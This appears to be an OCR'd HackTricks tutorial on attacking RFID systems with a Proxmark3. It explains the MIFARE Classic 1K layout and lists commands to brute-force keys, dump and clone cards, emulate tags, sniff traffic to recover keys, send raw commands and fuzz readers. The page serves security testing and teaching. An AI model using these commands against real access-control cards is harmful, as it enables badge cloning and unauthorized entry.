Proxmark 3

Support HackTricks

Try Hard Security Group

Attacking RFID Systems with Proxmark3

The first thing you need to do is to have a Proxmark3 and install the software and it's dependencies.

Attacking MIFARE Classic 1KBIt has 16 sectors, each ofthem has 4 blocks and each block contains 16B. The UID is in sector 0 block 0 (and can't be altered). To access each sector you need 2 keys (A and B) which are stored in block 3 of each sector (sector trailer). The sector trailer also stores the access bits that give the read and write permissions on each block using the 2 keys. 2 keys are useful to give permissions to read if you know the first one and write if you know the second one (for example).

Several attacks can be performed

proxmark3> hf mf #List attacks

proxmark3> hf mf chk *1 ? t ./client/default_keys.dic #Keys bruteforce
proxmark3> hf mf fchk 1 t # Improved keys BF

proxmark3> hf mf rdbl 0 A FFFFFFFFFFFF # Read block 0 with the key
proxmark3> hf mf rdsc 0 A FFFFFFFFFFFF # Read sector 0 with the key

proxmark3> hf mf dump 1 # Dump the information of the card (using creds inside dumpkeys.bin)
proxmark3> hf mf restore # Copy data to a new card
proxmark3> hf mf eload hf-mf-B46F6F79-data # Simulate card using dump
proxmark3> hf mf sim *1 u 8c61b5b4 # Simulate card using memory

proxmark3> hf mf eset 01 000102030405060708090a0b0c0d0e0f # Write those bytes to block 1
proxmark3> hf mf eget 01 # Read block 1
proxmark3> hf mf wrbl 01 B FFFFFFFFFFFF 000102030405060708090a0b0c0d0e0f # Write to the card

The Proxmark3 allows to perform other actions like eavesdropping a Tag to Reader communication to try to find sensitive data. In this card you could just sniff the communication with and calculate the used key because the cryptographic operations used are weak and knowing the plain and cipher text you can calculate it (mfkey64 tool).

Raw Commands

IoT systems sometimes use nonbranded or noncommercial tags. In this case, you can use Proxmark3 to send custom raw commands to the tags.proxmark3> hf search UID : 80 55 4b 6c ATQA : 00 04
SAK : 08 [2]
  proprietary non iso14443-4 card found, RATS not supported
  No chinese magic backdoor command detected
  Prng detection: WEAK
  Valid ISO14443A Tag Found - Quiting Search

With this information you could try to search information about the card and about the way to communicate with it. Proxmark3 allows to send raw commands like: hf 14a raw -p -b 7 26


The Proxmark3 software comes with a preloaded listof automation scripts that you can use to perform simple tasks. To retrieve the full list, use the script list command. Next, use the script run command, followed by the script’s name:

proxmark3> script run mfkeys

You can create a script to fuzz tag readers, so copying the data of a valid card just write a Lua script that randomize one or morerandom bytes and check if the reader crashes with any iteration.Try Hard Security Group

Support HackTricks

Last updated